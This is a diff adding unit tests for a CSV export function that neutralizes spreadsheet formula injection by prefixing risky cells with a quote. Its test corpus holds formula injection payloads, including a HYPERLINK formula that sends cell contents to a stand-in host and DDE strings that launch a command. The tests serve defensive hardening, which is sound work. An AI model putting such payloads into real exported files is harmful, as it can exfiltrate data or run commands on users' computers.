@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { describe, it, expect } from 'vitest';
-import { buildResultsCsv, formatCell, type ResultRow } from '../../src/lib/export/csv.ts';
+import { buildResultsCsv, formatCell, neutralizeFormula, type ResultRow } from '../../src/lib/export/csv.ts';
 import { mulberry32 } from '../helpers/random.ts';
 
 const parse = (csv: string) => Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n', skipEmptyLines: false });
@@ -106,5 +106,53 @@ describe('formatCell', () => {
     ['SPOC', 'SPOC'],
   ])('%s → %j', (value, text) => {
     expect(formatCell(value)).toBe(text);
+  });
+});
+
+describe('formula injection: text cells a spreadsheet would run get a leading quote', () => {
+  const CORPUS = [
+    '=HYPERLINK("http://x/?"&A1,"click")',
+    "+cmd|'/c calc'!A0",
+    '@SUM(1+1)',
+    '-2+3',
+    '=1+1',
+    "-cmd|'/c calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '@',
+    '=',
+    '-',
+    '+',
+    '- a note that starts with a dash',
+  ];
+  const NUMBERS = ['-0.0012', '+3', '-inf', '-Infinity', '+NaN', '-1e-5', '-.5', '+2458327.519958', '-3;4.5;-6e2', '3', '0.1'];
+  const HARMLESS = ['TIC 25155310', 'CONFIRMED', ' =not at the start', 'a=b', 'x-1', ''];
+
+  it.each(CORPUS)('neutralizes %j', (text) => {
+    expect(neutralizeFormula(text)).toBe(`'${text}`);
+  });
+
+  it.each([...NUMBERS, ...HARMLESS])('leaves %j as it is', (text) => {
+    expect(neutralizeFormula(text)).toBe(text);
+  });
+
+  it('covers input values, input column names, target names, error messages and text features; numbers stay numbers', () => {
+    const rows: ResultRow[] = CORPUS.map((text, i) => ({
+      values: [text, `${-(i + 1) / 1000}`, '-inf'],
+      status: 'failed',
+      error: text,
+      features: { bls_period: -0.0012, bls_depth: -Infinity, tls_transit_times: text, tls_snr_per_transit: '-1.5;2' },
+    }));
+    const csv = buildResultsCsv(['=target', 'period', '@note'], ['bls_period', 'bls_depth', 'tls_transit_times', 'tls_snr_per_transit'], rows);
+    const [header, ...data] = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n', skipEmptyLines: true }).data;
+    expect(header).toEqual(["'=target", 'period', "'@note", 'status', 'error', 'bls_period', 'bls_depth', 'tls_transit_times', 'tls_snr_per_transit']);
+    data.forEach((cells, i) => {
+      const text = CORPUS[i];
+      expect(cells).toEqual([`'${text}`, `${-(i + 1) / 1000}`, '-inf', 'failed', `'${text}`, '-0.0012', '-Infinity', `'${text}`, '-1.5;2']);
+    });
+    // No cell of the file, read back, starts a formula unless it is a number.
+    for (const cell of data.flat()) {
+      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?(?:[\d.]+(?:e[+-]?\d+)?|inf|infinity)(?:;[+-]?[\d.]+)*$/i);
+    }
   });
 });
